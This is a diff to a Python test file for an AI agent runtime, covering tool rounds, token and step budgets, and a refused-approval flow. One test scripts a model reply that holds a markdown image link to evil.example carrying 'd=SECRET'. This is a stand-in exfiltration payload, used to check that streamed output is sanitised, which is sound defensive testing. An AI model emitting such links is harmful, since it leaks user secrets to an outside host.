@@ -68,6 +68,7 @@ def test_streamed_tokens_are_sanitised_like_the_answer(tmp_path, fake):
     """A client renders tokens as they come: an injected image must not appear there either."""
     agent = define_agent("s", "S.", tools=[lookup], tool_mode="json")
     fake.script = [
+        Reply(content='{"tool": "lookup", "args": {"key": "k"}}'),
         Reply(content='{"tool": "final_answer"}'),
         Reply(content="The value ![x](https://evil.example/p.png?d=SECRET) is known [1]."),
     ]
@@ -105,14 +106,15 @@ def test_step_budget_stops_the_run_with_a_clear_status(tmp_path, fake):
 def test_token_budget_uses_the_gateway_usage(tmp_path, fake):
     _endless_lookups(fake)
     rt = make_runtime(tmp_path, fake)
-    a = rt.ask(looper, "Look everything up", "alice", budget=Budget(max_tokens=40))
-    assert a.status == "budget_exceeded" and "model tokens" in a.text and "budget is 40" in a.text
+    # Below what the first decision uses (an SDK agent stops asking before a call that would not fit).
+    a = rt.ask(looper, "Look everything up", "alice", budget=Budget(max_tokens=10))
+    assert a.status == "budget_exceeded" and "model tokens" in a.text and "budget is 10" in a.text
     used = sum(
         (r.data["input_tokens"] or 0) + (r.data["output_tokens"] or 0)
         for r in rt.services.audit.records(a.run_id)
         if r.kind == "model.call"
     )
-    assert used > 40
+    assert used > 10
     assert rt.runs.get(a.run_id).tokens == used
     rt.close()
 
@@ -135,10 +137,15 @@ def test_default_budget_comes_from_settings(tmp_path, fake):
 
 
 def test_agent_max_steps_caps_tool_rounds(tmp_path, fake):
+    """Past max_steps the model is not asked again: the answer is made from what the tools returned
+    (here results without a source, so no answer is claimed), saying so; the run is not 'stopped'."""
     _endless_lookups(fake)
     rt = make_runtime(tmp_path, fake)
     a = rt.ask(define_agent("l2", "L.", tools=[lookup], max_steps=2), "Look everything up", "alice")
-    assert a.status == "budget_exceeded" and "called tools 2 times" in a.text
+    assert a.status == "not_found" and len(fake.chat_bodies()) == 2
+    assert "called tools 2 times without finishing" in a.notes[0] and "lookup(" in a.notes[-1]
+    stopped = next(r for r in rt.services.audit.records(a.run_id) if r.kind == "agent.stopped")
+    assert stopped.data["rounds"] == 2
     rt.close()
 
 
@@ -260,7 +267,8 @@ def test_refusal_from_a_new_runtime_is_recorded_and_nothing_happens(tmp_path, fa
         rt.resume(run_id, "erin", approved=False)
     fake.script = [text_reply("The case was not opened.")]
     a = rt.resume(run_id, "erin", approved=False, reason="already refunded")
-    assert a.status == "answered" and list_cases(rt.settings) == []
+    assert a.status == "not_found" and list_cases(rt.settings) == []
+    assert a.text == "No answer: no tool call succeeded: open_case: refused: erin refused: already refunded."
     recs = rt.services.audit.records(run_id)
     d = next(r for r in recs if r.kind == "approval.decision").data
     assert d["approved"] is False and d["approver"] == "erin" and d["reason"] == "already refunded"
